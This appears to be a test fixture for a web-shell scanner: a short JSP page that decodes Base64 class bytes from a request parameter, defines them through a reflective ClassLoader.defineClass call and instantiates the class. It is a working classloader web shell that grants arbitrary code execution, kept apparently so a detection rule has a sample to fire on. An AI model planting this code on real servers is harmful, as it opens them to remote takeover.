<%-- expect rule=jsp.classloader-input min=95 --%>
<%@ page import="java.lang.reflect.Method" %>
<%
    byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("cls"));
    ClassLoader cl = Thread.currentThread().getContextClassLoader();
    Method dm = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
    dm.setAccessible(true);
    Class<?> k = (Class<?>) dm.invoke(cl, b, 0, b.length);
    k.newInstance();
%>
